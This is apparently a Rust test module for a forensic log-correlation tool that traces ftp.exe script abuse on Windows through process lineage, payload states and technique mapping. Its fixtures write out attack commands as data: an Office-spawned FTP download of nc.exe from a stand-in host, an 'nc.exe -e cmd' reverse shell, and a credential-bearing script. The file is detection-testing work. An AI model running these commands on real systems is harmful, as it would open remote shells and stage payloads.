//! What the host recorded, tied to what scripts say: scenes for every step of the playbooks, and what hostile facts may cost.

mod allowed;
mod brought;
mod playbooks;
mod quality;
mod restored;
mod scene;

use crate::support::random::Random;
use ftpsift::artifact::event::{Direction as Way, Event as Fact, Process};
use ftpsift::base::limits::Limits;
use ftpsift::case::playbook::Answer;
use ftpsift::case::run::{LinkedBy, ParentKind, ProgramLocation, RunKnownBy, ScriptState};
use ftpsift::case::{Case, PayloadStatus};
use ftpsift::correlate::correlate;
use ftpsift::correlate::interest::Interest;
use ftpsift::correlate::sources::{LogSource, Policy};
use ftpsift::finding::{Allowance, Finding, Severity};
use ftpsift::script::session::Scheme;
use scene::*;
use std::collections::BTreeSet;

const WORD: &str = "C:\\Program Files\\Microsoft Office\\WINWORD.EXE";
const EXPLORER: &str = "C:\\Windows\\explorer.exe";

/// Word starts cmd, which writes the script and starts ftp.exe with it; the payload comes over a passive connection, is
/// started, and the script goes.
fn dropper() -> Scene {
    let mut scene = Scene::new();
    scene
        .script("ftp.bad.example", Scheme::Ftp, &["nc.exe"], &[])
        .start(0, 10, WORD, "WINWORD.EXE /n a.docm", (9, EXPLORER))
        .start(10, 11, CMD, "cmd /c (echo open ftp.bad.example)>f.txt & ftp -n -i -s:f.txt", (10, WORD))
        .of(11, 11, 11, CMD, file(SCRIPT))
        .start(12, 12, FTP, "ftp  -n -i -s:f.txt", (11, CMD))
        .of(13, 22, 12, FTP, asks("ftp.bad.example", &["::ffff:203.0.113.10"]))
        .of(13, 3, 12, FTP, connects(Way::Outbound, SERVER, 21, 50000))
        .of(15, 3, 12, FTP, connects(Way::Outbound, SERVER, 50123, 50001))
        .of(15, 11, 12, FTP, file(PAYLOAD))
        .of(17, 5, 12, FTP, Fact::default())
        .of(18, 23, 11, CMD, file(SCRIPT))
        .start(25, 13, PAYLOAD, "nc.exe -e cmd 203.0.113.10 443", (11, CMD));
    scene
}

/// A scene with another command line of the client, and other connections.
fn client(line: &str, connections: &[Fact]) -> Scene {
    let mut scene = Scene::new();
    scene.script(SERVER, Scheme::Ftp, &["nc.exe"], &[]).start(12, 12, FTP, line, (11, CMD));
    for connection in connections {
        scene.of(13, 3, 12, FTP, connection.clone());
    }
    scene
}

/// The payload comes, and a program is given it.
fn follow_on(image: &str, line: &str, payload: &str) -> Scene {
    let mut scene = Scene::new();
    scene
        .script(SERVER, Scheme::Ftp, &[payload], &[])
        .start(12, 12, FTP, "ftp -s:f.txt", (11, CMD))
        .of(15, 11, 12, FTP, file(&format!("C:\\Users\\Public\\{payload}")))
        .start(25, 13, image, line, (11, CMD));
    scene
}

fn persisted(fact: Fact) -> Scene {
    let mut scene = client("ftp -s:f.txt", &[]);
    scene.fact(fact);
    scene
}

fn upload() -> Scene {
    let mut scene = Scene::new();
    scene
        .script(SERVER, Scheme::Ftp, &[], &["loot.zip"])
        .start(12, 12, FTP, "ftp -s:f.txt", (11, CMD))
        .of(13, 3, 12, FTP, connects(Way::Outbound, SERVER, 21, 50000))
        .of(15, 3, 12, FTP, connects(Way::Outbound, SERVER, 50123, 50001));
    scene
}

fn allowed() -> Scene {
    let svchost = "C:\\Windows\\System32\\svchost.exe";
    let mut scene = Scene::new();
    scene
        .script("10.1.2.3", Scheme::Ftp, &["prices.csv"], &[])
        .start(0, 11, svchost, "svchost.exe -k netsvcs -p -s Schedule", (5, "C:\\Windows\\System32\\services.exe"))
        .start(12, 12, FTP, "ftp -s:f.txt", (11, svchost))
        .of(13, 3, 12, FTP, connects(Way::Outbound, "10.1.2.3", 21, 50000));
    scene.sources.known = vec!["10.0.0.0/8".to_owned()];
    scene.case.findings.push(Finding {
        id: "f1".to_owned(),
        rule: "script.download".to_owned(),
        title: "A script downloads".to_owned(),
        severity: Severity::Low,
        attack: Vec::new(),
        evidence_refs: vec!["s1.1".to_owned()],
        explanation: String::new(),
        allowed_by: Some("allow.toml#1".to_owned()),
        allowance: Some(Allowance { ticket: Some("CHG-4711".to_owned()), ..Allowance::default() }),
    });
    scene
}

fn cleared() -> Scene {
    let mut scene = dropper();
    scene.fact(Fact { time: at(60), source: "security-1102".to_owned(), ..Fact::default() });
    let mut log = LogSource::new("Security", "e1", "Security.evtx");
    log.count(1, at(0), "security-4688", false);
    log.count(50, at(100), "security-4688", false);
    scene.sources.logs.push(log);
    scene.sources.policies.push(Policy {
        what: "prefetch".to_owned(),
        enabled: false,
        told_by: "EnablePrefetcher is 0".to_owned(),
    });
    scene
}

#[test]
fn lineage_by_identity_by_number_and_by_the_child_alone() {
    let case = dropper().run();
    let run = &case.runs[0];
    assert_eq!(
        (run.client.dialect(), run.parent_kind, run.script.state),
        ("windows", ParentKind::Office, ScriptState::Acquired)
    );
    let above: Vec<_> = run.parents.iter().map(|parent| (parent.depth, parent.kind, parent.linked_by)).collect();
    let expected = [
        (1, ParentKind::Shell, LinkedBy::Guid),
        (2, ParentKind::Office, LinkedBy::Guid),
        (3, ParentKind::Explorer, LinkedBy::NamedByChild),
    ];
    assert_eq!(above, expected);
    assert_eq!((run.started, run.ended), (at(12), at(17)));

    // As a real log has it: ftp.exe is known only as what started cmd, with the command line that the child's record gives.
    let mut scene = Scene::new();
    scene.start(0, 20, CMD, "cmd.exe /C c:\\Windows\\system32\\calc.exe", (19, FTP)).start(
        1,
        21,
        "C:\\Windows\\System32\\calc.exe",
        "calc.exe",
        (20, CMD),
    );
    let parent = scene.events[0].fact.process.as_mut().unwrap().parent.as_mut().unwrap();
    parent.command_line =
        Some("\"C:\\Windows\\System32\\ftp.exe\" -s:c:\\users\\ieuser\\appdata\\local\\temp\\ftp.txt".to_owned());
    let case = scene.run();
    let run = &case.runs[0];
    assert_eq!((run.known_by, run.script.state), (RunKnownBy::NamedByChild, ScriptState::Missing));
    assert_eq!(run.script.path.as_deref(), Some("c:\\users\\ieuser\\appdata\\local\\temp\\ftp.txt"));
    let below: Vec<_> = run.children.iter().map(|child| (child.depth, child.command_line.as_deref())).collect();
    assert_eq!(below, [(1, Some("cmd.exe /C c:\\Windows\\system32\\calc.exe")), (2, Some("calc.exe"))]);
}

/// Security 4688 and 4689: no identities, and a number that was given again.
#[test]
fn numbers_that_are_given_again() {
    let record = |number: u32, second: i64, pid: u64, image: &str, parent: Option<u64>| Fact {
        time: at(second),
        source: format!("security-{number}"),
        action: Some(if number == 4688 { "started" } else { "ended" }.to_owned()),
        process: Some(Process {
            executable: Some(image.to_owned()),
            pid: Some(pid),
            parent: parent.map(|pid| Box::new(Process { pid: Some(pid), ..Process::default() })),
            ..Process::default()
        }),
        ..Fact::default()
    };
    let mut scene = Scene::new();
    scene
        .fact(record(4688, 0, 100, WORD, Some(4)))
        .fact(record(4689, 10, 100, WORD, None))
        .fact(record(4688, 20, 100, CMD, Some(4)))
        .fact(record(4688, 30, 200, FTP, Some(100)))
        .fact(record(4689, 40, 200, FTP, None))
        .fact(record(4688, 50, 200, CMD, Some(100)))
        .fact(record(4688, 60, 300, "C:\\Windows\\System32\\whoami.exe", Some(200)));
    let case = scene.run();
    let run = &case.runs[0];
    assert_eq!((case.runs.len(), run.ended), (1, at(40)));
    let parent = &run.parents[0];
    assert_eq!((parent.executable.as_deref(), parent.linked_by), (Some(CMD), LinkedBy::PidAndTime));
    assert!(
        run.children.is_empty(),
        "whoami is no child of ftp.exe: its number was another's by then: {:?}",
        run.children
    );

    // The parent had ended, and no record tells of the process that has its number now.
    let mut scene = Scene::new();
    scene.fact(record(4688, 0, 100, WORD, Some(4))).fact(record(4689, 10, 100, WORD, None)).fact(record(
        4688,
        30,
        200,
        FTP,
        Some(100),
    ));
    let case = scene.run();
    assert!(case.runs[0].parents.iter().all(|parent| parent.executable.is_none()), "{:?}", case.runs[0].parents);
}

#[test]
fn what_is_claimed_of_files() {
    let hash = "ab".repeat(32);
    let hashed = |path: &str, hash: &str| {
        let mut fact = file(path);
        fact.file.as_mut().unwrap().hashes.insert("sha256".to_owned(), hash.to_owned());
        fact
    };
    let base = || client("ftp -s:f.txt", &[]);
    let with = |change: &dyn Fn(&mut Scene)| {
        let mut scene = base();
        change(&mut scene);
        scene.run()
    };
    let prefetch = |second: i64| {
        with(&|scene| {
            scene.of(15, 11, 12, FTP, file(PAYLOAD)).fact(runs(
                "prefetch",
                "\\VOLUME{01d6}\\USERS\\PUBLIC\\NC.EXE",
                &[second],
            ));
        })
    };
    let cases: Vec<(&str, Case, &[&str])> = vec![
        ("nothing", base().run(), &["never-seen"]),
        ("present", with(&|scene| scene.case.payloads[0].status = PayloadStatus::Found), &["present"]),
        ("deleted entry", with(&|scene| scene.case.payloads[0].status = PayloadStatus::Deleted), &["deleted"]),
        ("a candidate is no proof", with(&|scene| scene.case.payloads[0].status = PayloadStatus::Candidate), &[]),
        (
            "deleted by record",
            with(&|scene| {
                scene.of(20, 23, 12, FTP, file(PAYLOAD));
            }),
            &["deleted"],
        ),
        (
            "hash by record",
            with(&|scene| {
                scene.of(15, 15, 12, FTP, hashed(PAYLOAD, &hash));
            }),
            &["hash-only", "seen"],
        ),
        (
            "loaded as a library",
            with(&|scene| {
                scene.of(25, 7, 40, "C:\\Windows\\System32\\rundll32.exe", file(PAYLOAD));
            }),
            &["executed"],
        ),
        (
            "what the client loads it did not make",
            with(&|scene| {
                scene.of(14, 7, 12, FTP, file("C:\\x\\nc.exe"));
            }),
            &["never-seen"],
        ),
        ("executed by prefetch", prefetch(30), &["executed", "seen"]),
        ("run before it came", prefetch(-30), &["seen"]),
        (
            "shimcache proves no run",
            with(&|scene| {
                scene.fact(Fact { source: "shimcache".to_owned(), time: at(40), ..file(PAYLOAD) });
            }),
            &["never-seen"],
        ),
        (
            "named by del",
            with(&|scene| {
                scene.start(30, 40, CMD, "cmd /c del C:\\Users\\Public\\nc.exe", (11, CMD));
            }),
            &["never-seen"],
        ),
        (
            "another nc.exe",
            with(&|scene| {
                scene.start(30, 40, "C:\\Tools\\nc.exe", "nc.exe", (11, CMD));
            }),
            &["never-seen"],
        ),
        ("uploaded", upload().run(), &["uploaded"]),
    ];
    for (what, case, expected) in cases {
        let expected: BTreeSet<String> = expected.iter().map(|state| (*state).to_owned()).collect();
        let name = if what == "uploaded" { "loot.zip" } else { "nc.exe" };
        assert_eq!(states(&case, name), expected, "{what}: {:#?}", case.claims);
    }
    // Equal in name and MD5, and another SHA-256: another file.
    let mut scene = follow_on(PAYLOAD, "nc.exe", "nc.exe");
    let process = scene.events[2].fact.process.as_mut().unwrap();
    process.hashes.insert("sha256".to_owned(), "cd".repeat(32));
    scene.events[1].fact.file.as_mut().unwrap().hashes.insert("sha256".to_owned(), hash.clone());
    scene.case.payloads.clear();
    scene.case.scripts[0].sessions[0].transfers[0].payloads.clear();
    let case = scene.run();
    assert_eq!(case.claims[0].sha256.as_deref(), Some(hash.as_str()));
    assert!(!states(&case, "nc.exe").contains("executed"), "{:#?}", case.claims);
}

#[test]
fn clocks_that_do_not_agree_make_no_negative_duration() {
    let mut scene = dropper();
    for event in scene.events.iter_mut().filter(|event| event.fact.source == "sysmon-11") {
        event.fact.time = at(500);
    }
    scene.fact(Fact { time: at(70), source: "security-4616".to_owned(), ..Fact::default() });
    let case = scene.run();
    let executions: Vec<_> = case.claims.iter().flat_map(|claim| &claim.executions).collect();
    assert!(executions.iter().all(|execution| execution.delay_s.is_none_or(|delay| delay >= 0.0)));
    assert!(
        executions.iter().any(|execution| execution.note.as_ref().is_some_and(|note| note.contains("clocks"))),
        "{executions:?}"
    );
    assert!(case.timeline.windows(2).all(|pair| pair[0].time <= pair[1].time));
    assert!(case.timeline.iter().any(|entry| entry.kind == "clock set" && entry.note.is_some()));
    says(&case, "1.coverage.coverage", Answer::Answered, "the clock of PC1.corp.example was set");
}

#[test]
fn a_script_that_is_gone_and_that_a_command_line_wrote() {
    let mut scene = Scene::new();
    let line = "cmd /c \"echo open 203.0.113.10>g.txt&echo bob>>g.txt&echo hunter2>>g.txt&echo get nc.exe>>g.txt&ftp -s:g.txt\"";
    scene.start(10, 11, CMD, line, (10, WORD)).start(12, 12, FTP, "ftp  -s:g.txt", (11, CMD)).of(
        15,
        11,
        12,
        FTP,
        file(PAYLOAD),
    );
    let case = scene.run();
    let script = &case.runs[0].script;
    assert_eq!((script.state, script.path.as_deref()), (ScriptState::WrittenByKnown, Some("C:\\Users\\Public\\g.txt")));
    assert!(script.commands.iter().any(|line| line == "get nc.exe") && !script.commands.concat().contains("hunter2"));
    // What the client made is claimed, though no script names it.
    assert_eq!(states(&case, "nc.exe"), BTreeSet::from(["seen".to_owned()]));
    assert_eq!(case.verdicts.iter().map(|verdict| verdict.technique.as_str()).collect::<Vec<_>>(), ["T1105"]);
}

#[test]
fn uploads_to_a_server_that_commands_the_host() {
    let mut scene = Scene::new();
    scene
        .script(SERVER, Scheme::Ftp, &["nc.exe"], &["loot.zip"])
        .start(12, 12, FTP, "ftp -s:f.txt", (11, CMD))
        .of(15, 11, 12, FTP, file(PAYLOAD))
        .start(25, 13, PAYLOAD, "nc.exe", (11, CMD));
    let techniques = |case: &Case| case.verdicts.iter().map(|verdict| verdict.technique.clone()).collect::<Vec<_>>();
    assert_eq!(techniques(&scene.run()), ["T1105", "T1041"]);
    assert_eq!(techniques(&upload().run()), ["T1048.003"]);
}

#[test]
fn programs_that_windows_remembers_are_runs() {
    let mut scene = Scene::new();
    let mut fact = runs("prefetch", "FTP.EXE", &[500, 12]);
    fact.runs.as_mut().unwrap().started_from = Some("syswow64".to_owned());
    scene.start(12, 12, FTP, "ftp -s:f.txt", (11, CMD)).fact(fact);
    let case = scene.run();
    let told: Vec<_> = case.runs.iter().map(|run| (run.id.as_str(), run.known_by, run.program.location)).collect();
    let expected = [
        ("r1", RunKnownBy::ProcessStart, ProgramLocation::System32),
        ("r2", RunKnownBy::ExecutionArtifact, ProgramLocation::Syswow64),
    ];
    assert_eq!(told, expected);
    assert_eq!(case.runs[0].events.len(), 2);
}

#[test]
fn events_are_numbered_on_and_say_what_they_bear_on() {
    let mut scene = dropper();
    scene.fact(Fact { time: at(5), source: "sysmon-11".to_owned(), ..file("C:\\x\\other.txt") });
    let case = scene.run();
    let ids: Vec<&str> = case.events.iter().map(|event| event.id.as_str()).collect();
    let expected: Vec<String> = (1..=ids.len()).map(|number| format!("v{number}")).collect();
    assert_eq!(ids, expected);
    assert!(
        !case.events.iter().any(|event| event.fact.file.as_ref().is_some_and(|file| file.path.ends_with("other.txt")))
    );
    assert!(case.events.iter().any(|event| event.links.payloads.contains("p1") && event.links.runs.contains("r1")));
    let json = serde_json::to_string(&(&case.runs, &case.claims, &case.playbooks, &case.timeline)).unwrap();
    assert!(!json.contains("\"v:"), "a provisional identity is left");
    let again = dropper();
    let same = dropper().run();
    assert_eq!(serde_json::to_string(&again.run()).unwrap(), serde_json::to_string(&same).unwrap());
}

#[test]
fn a_first_pass_keeps_what_may_bear_on_the_case() {
    let scene = dropper();
    let mut interest = Interest::of(&scene.case);
    for event in &scene.events {
        let kept = interest.wants(&event.fact);
        let is_word = event.fact.process.as_ref().is_some_and(|process| process.executable.as_deref() == Some(WORD));
        assert_eq!(kept, !is_word, "{:?}", event.fact);
        if kept {
            interest.learn(&event.fact);
        }
    }
    let mut other = Scene::new();
    let renamed = "C:\\Users\\Public\\svc.exe";
    other
        .start_as(0, 50, (renamed, "ftp.exe"), "svc.exe -s:z.txt", (11, CMD))
        .of(1, 3, 50, renamed, connects(Way::Outbound, "198.51.100.9", 50123, 50001))
        .of(1, 3, 51, "C:\\x\\other.exe", connects(Way::Outbound, "198.51.100.9", 50123, 50001));
    let kept: Vec<bool> = other
        .events
        .iter()
        .map(|event| {
            let kept = interest.wants(&event.fact);
            interest.learn(&event.fact);
            kept
        })
        .collect();
    assert_eq!(kept, [true, true, false]);
}

/// As many facts as there is time for, which all share one name: the work may grow with their number, not with its square.
#[test]
fn a_name_that_all_share_ties_nothing_by_name() {
    let mut scene = Scene::new();
    let names: Vec<String> = (0..2000).map(|number| format!("{number}\\a.exe")).collect();
    let names: Vec<&str> = names.iter().map(String::as_str).collect();
    scene.script(SERVER, Scheme::Ftp, &names, &[]);
    for number in 0..40_000i64 {
        match number % 4 {
            0 => scene.fact(Fact { time: at(number), source: "sysmon-11".to_owned(), ..file("a.exe") }),
            1 => scene.start(number, 7, "a.exe", "a.exe a.exe a.exe", (7, "a.exe")),
            2 => scene.of(number, 11, 12, FTP, file(&format!("C:\\Users\\Public\\{number}\\a.exe"))),
            _ => scene.fact(runs("prefetch", "A.EXE", &[number])),
        };
    }
    let case = scene.run();
    let first = &case.claims[1];
    assert!(first.notes.iter().any(|note| note.contains("too common")), "{:?}", first.notes);
    assert!(case.claims.iter().all(|claim| claim.executions.len() <= 64 && claim.deliveries.len() <= 64));
}

/// Arbitrary facts, of few words so that they meet: no panic, the same twice, all references lead somewhere.
#[test]
fn arbitrary_facts() {
    let mut random = Random::new(0x9e37_79b9_7f4a_7c15);
    let images = [
        FTP,
        CMD,
        WORD,
        PAYLOAD,
        "ftp.exe",
        "",
        "\\Device\\HarddiskVolume1\\Windows\\System32\\ftp.exe",
        "C:\\x\\curl.exe",
        "C:\\ü\\ftp.exe",
    ];
    let lines = [
        "",
        "ftp -s:f.txt",
        "ftp -A -s:C:\\Users\\Public\\f.txt h",
        "curl ftp://h/a",
        "\"",
        "rundll32 nc.exe,x",
        "echo open h>f.txt&ftp -s:f.txt",
    ];
    for round in 0..150 {
        let mut scene = Scene::new();
        scene.script(SERVER, Scheme::Ftp, &["nc.exe", "a*", ""], &["loot.zip"]);
        for _ in 0..60 {
            let second = random.below(100) as i64 - 50;
            let (pid, parent) = (random.below(6), random.below(6));
            let image = images[random.below(images.len())];
            let line = lines[random.below(lines.len())];
            match random.below(9) {
                0..=2 => scene.start(second, pid, image, line, (parent, images[random.below(5)])),
                3 => scene.of(
                    second,
                    3,
                    pid,
                    image,
                    connects(
                        if random.below(2) == 0 { Way::Inbound } else { Way::Outbound },
                        SERVER,
                        random.below(65536) as u16,
                        20,
                    ),
                ),
                4 => scene.of(
                    second,
                    [11, 15, 23][random.below(3)],
                    pid,
                    image,
                    file([PAYLOAD, SCRIPT, "", "nc.exe"][random.below(4)]),
                ),
                5 => scene.of(second, 5, pid, image, Fact::default()),
                6 => scene.fact(starts("run-key", line)),
                7 => scene.fact(runs("bam", image, &[second, second + 9])),
                _ => scene.of(second, 22, pid, image, asks("h", &["x", SERVER])),
            };
            let event = scene.events.last_mut().unwrap();
            if random.below(4) == 0 {
                event.fact.time = None;
            }
            if random.below(4) == 0 {
                event.fact.process.iter_mut().for_each(|process| process.guid = None);
            }
        }
        let events = scene.events.clone();
        let mut case = scene.case.clone();
        let limits = Limits { lineage_depth: 1 + round % 5, client_runs: 1 + round, ..Limits::default() };
        correlate(&mut case, events.clone(), &scene.sources, &limits);
        let mut again = scene.case.clone();
        correlate(&mut again, events, &scene.sources, &limits);
        assert_eq!(serde_json::to_string(&case).unwrap(), serde_json::to_string(&again).unwrap());
        let known: BTreeSet<&str> = case.events.iter().map(|event| event.id.as_str()).collect();
        let refs = case.claims.iter().flat_map(|claim| &claim.states).flat_map(|state| &state.refs);
        let refs = refs
            .chain(case.runs.iter().flat_map(|run| &run.events))
            .chain(case.timeline.iter().flat_map(|entry| &entry.refs));
        for name in refs.filter(|name| name.starts_with('v')) {
            assert!(known.contains(name.as_str()), "{name}");
        }
        assert!(case.runs.iter().all(|run| run.parents.len() <= limits.lineage_depth));
    }
}
